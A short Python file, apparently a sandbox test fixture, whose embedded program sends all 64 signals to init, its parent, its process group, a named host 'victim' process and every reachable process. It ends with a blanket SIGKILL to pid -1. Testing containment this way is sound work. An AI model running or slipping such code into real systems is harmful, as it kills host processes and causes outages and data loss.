"""Sends every signal to its parent, its group, everybody and a process of the host."""

PROGRAM = """
import os

def run(asked):
    pids = (1, os.getppid(), -1, asked["victim"], -asked["victim"])
    for number in range(1, 65):
        for pid in pids if number != 9 else pids[:2] + pids[3:]:
            if number in (9, 19) or pid not in (-1,):
                try:
                    os.kill(pid, number)
                except (OSError, ValueError):
                    continue
    try:
        os.kill(-1, 9)
    except OSError:
        pass
    return []
"""
